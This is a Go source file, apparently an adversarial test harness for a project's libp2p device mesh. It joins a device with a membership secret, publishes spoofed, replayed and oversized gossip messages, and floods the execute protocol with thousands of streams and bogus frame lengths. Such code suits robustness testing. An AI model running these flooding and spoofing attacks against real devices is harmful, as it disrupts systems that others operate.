package main

import (
	"context"
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"math/rand/v2"
	"net"
	"os"
	"sync"
	"time"

	"github.com/libp2p/go-libp2p"
	pubsub "github.com/libp2p/go-libp2p-pubsub"
	"github.com/libp2p/go-libp2p/core/crypto"
	"github.com/libp2p/go-libp2p/core/event"
	"github.com/libp2p/go-libp2p/core/host"
	"github.com/libp2p/go-libp2p/core/network"
	"github.com/libp2p/go-libp2p/core/peer"
	libp2pproto "github.com/libp2p/go-libp2p/core/protocol"
	"github.com/libp2p/go-libp2p/core/sec"
	"github.com/libp2p/go-libp2p/p2p/muxer/yamux"
	"github.com/libp2p/go-libp2p/p2p/net/upgrader"
	"github.com/libp2p/go-libp2p/p2p/transport/tcp"
	ma "github.com/multiformats/go-multiaddr"
	manet "github.com/multiformats/go-multiaddr/net"
	mss "github.com/multiformats/go-multistream"

	"github.com/hearth-edge/hearth/keys"
	"github.com/hearth-edge/hearth/protocol"
)

func muxers() []upgrader.StreamMuxer {
	return []upgrader.StreamMuxer{{ID: yamux.ID, Muxer: yamux.DefaultTransport}}
}

// A member is the dialler's side of the mesh's handshake and nothing else of a
// device: what it sends afterwards is up to it.
type member struct {
	key   crypto.PrivKey
	proof []byte
}

func (m *member) ID() libp2pproto.ID { return membershipID }

func (m *member) SecureInbound(context.Context, net.Conn, peer.ID) (sec.SecureConn, error) {
	return nil, errors.New("not a listener")
}

func (m *member) SecureOutbound(ctx context.Context, raw net.Conn, _ peer.ID) (sec.SecureConn, error) {
	c, err := secure(ctx, raw, membershipID, m.key)
	if err != nil {
		return nil, err
	}
	if _, err := c.Write(m.proof); err != nil {
		return nil, err
	}
	for range 2 { // certificate and verdict
		if err := skipFrame(c); err != nil {
			return nil, err
		}
	}
	_, err = c.Write([]byte{1, 0}) // welcome
	return c, err
}

func skipFrame(r io.Reader) error {
	size, err := binary.ReadUvarint(oneByte{r})
	if err == nil {
		_, err = io.CopyN(io.Discard, r, int64(size))
	}
	return err
}

type oneByte struct{ io.Reader }

func (r oneByte) ReadByte() (byte, error) {
	var b [1]byte
	_, err := io.ReadFull(r, b[:])
	return b[0], err
}

// join connects to the device as a member. prepare is called before: what is not
// there from the start the device does not look for again.
func join(ctx context.Context, target, file string, prepare func(host.Host) error) (host.Host, peer.ID, keys.Secret, error) {
	secret, err := readSecret(file)
	if err != nil {
		return nil, "", secret, err
	}
	key, _, err := crypto.GenerateEd25519Key(nil)
	if err != nil {
		return nil, "", secret, err
	}
	id, err := peer.IDFromPrivateKey(key)
	if err != nil {
		return nil, "", secret, err
	}
	proof, err := certificate(secret, id, ownName())
	if err != nil {
		return nil, "", secret, err
	}
	victim, err := whoIs(ctx, target, key)
	if err != nil {
		return nil, "", secret, err
	}
	h, err := libp2p.New(libp2p.Identity(key), libp2p.NoListenAddrs, libp2p.Transport(tcp.NewTCPTransport),
		libp2p.Security(string(membershipID), func() sec.SecureTransport { return &member{key: key, proof: proof} }),
		libp2p.Muxer(yamux.ID, yamux.DefaultTransport), libp2p.ResourceManager(&network.NullResourceManager{}))
	if err != nil {
		return nil, "", secret, err
	}
	if err := prepare(h); err != nil {
		return nil, "", secret, err
	}
	tcpAddr, err := net.ResolveTCPAddr("tcp", target)
	if err != nil {
		return nil, "", secret, err
	}
	at, err := manet.FromNetAddr(tcpAddr)
	if err != nil {
		return nil, "", secret, err
	}
	if err := h.Connect(ctx, peer.AddrInfo{ID: victim, Addrs: []ma.Multiaddr{at}}); err != nil {
		return nil, "", secret, err
	}
	alive, err := h.NewStream(ctx, victim, "/hearth/alive/1.0.0")
	if err != nil {
		return nil, "", secret, err
	}
	go stayAlive(alive)
	// Devices don't answer libp2p's identify, which is what pubsub waits for.
	met, err := h.EventBus().Emitter(new(event.EvtPeerIdentificationCompleted))
	if err != nil {
		return nil, "", secret, err
	}
	defer met.Close()
	err = met.Emit(event.EvtPeerIdentificationCompleted{Peer: victim, Protocols: []libp2pproto.ID{pubsub.GossipSubID_v11}})
	return h, victim, secret, err
}

// stayAlive pings, so that the device takes the attacker for alive. It ends with the
// stream.
func stayAlive(s network.Stream) {
	go func() { _, _ = io.Copy(io.Discard, s) }()
	for {
		if _, err := s.Write([]byte{9, 1, 0, 0, 0, 0, 0, 0, 0, 0}); err != nil {
			return
		}
		time.Sleep(time.Second)
	}
}

// ownName is another one for each attacker: a mesh takes none that another device
// had.
func ownName() string { return fmt.Sprintf("attacker-%d", os.Getpid()) }

// whoIs learns the device's ID from Noise.
func whoIs(ctx context.Context, target string, key crypto.PrivKey) (peer.ID, error) {
	raw, err := net.DialTimeout("tcp", target, 5*time.Second)
	if err != nil {
		return "", err
	}
	defer raw.Close()
	if err := mss.SelectProtoOrFail(membershipID, raw); err != nil {
		return "", err
	}
	c, err := secure(ctx, raw, membershipID, key)
	if err != nil {
		return "", err
	}
	return c.RemotePeer(), nil
}

// gossip publishes scores that are out of bounds, of others, old, too long, and
// too many.
func gossip(ctx context.Context, target, file string) error {
	var ps *pubsub.PubSub
	h, victim, secret, err := join(ctx, target, file, func(h host.Host) (err error) {
		ps, err = pubsub.NewGossipSub(ctx, h, pubsub.WithFloodPublish(true), pubsub.WithMaxMessageSize(1<<20))
		return err
	})
	if err != nil {
		return err
	}
	topic, err := ps.Join(secret.Topic())
	if err != nil {
		return err
	}
	if _, err := topic.Subscribe(); err != nil {
		return err
	}
	hearers, err := topic.EventHandler()
	if err != nil {
		return err
	}
	if _, err := hearers.NextPeerEvent(ctx); err != nil { // nobody hears what comes before
		return err
	}
	own := protocol.Score{Node: protocol.NodeID(h.ID().String()), Name: ownName(), Beat: time.Second, Arch: "amd64", OS: "linux", Role: protocol.RoleNode}
	for i := uint64(1); ; i++ {
		s := own
		s.Sequence = i
		switch i % 4 {
		case 0:
			s.Node = protocol.NodeID(victim.String())
		case 1:
			s.Sequence = 1
		}
		data, err := protocol.EncodeScore(s)
		if err != nil {
			return err
		}
		switch rand.N(4) {
		case 0:
			data = noise(len(data))
		case 1:
			data = append(data, noise(20_000)...)
		}
		if err := topic.Publish(ctx, data); err != nil {
			return err
		}
		if i == 100 {
			started()
		}
		time.Sleep(100 * time.Microsecond)
	}
}

// flood opens as many streams as the device takes, and misuses them.
func flood(ctx context.Context, target, file, how string) error {
	h, victim, _, err := join(ctx, target, file, func(host.Host) error { return nil })
	if err != nil {
		return err
	}
	var working sync.WaitGroup
	for range 2000 {
		working.Go(func() {
			for ctx.Err() == nil {
				misuse(ctx, h, victim, how)
				time.Sleep(10 * time.Millisecond)
			}
		})
	}
	working.Wait()
	return fmt.Errorf("no stream is left: %w", ctx.Err())
}

func misuse(ctx context.Context, h host.Host, victim peer.ID, how string) {
	ctx, cancel := context.WithTimeout(ctx, 10*time.Second)
	defer cancel()
	s, err := h.NewStream(ctx, victim, protocol.ExecuteProtocol)
	if err != nil {
		return
	}
	defer func() { _ = s.Reset() }()
	started()
	for i := 0; ; i++ {
		piece := []byte{0x80}
		if how == "frames" {
			piece = append(binary.AppendUvarint(nil, 1<<40), noise(1<<10)...)
		}
		if _, err := s.Write(piece); err != nil || i == 60 {
			return
		}
		if how == "streams" {
			time.Sleep(time.Second)
		}
	}
}
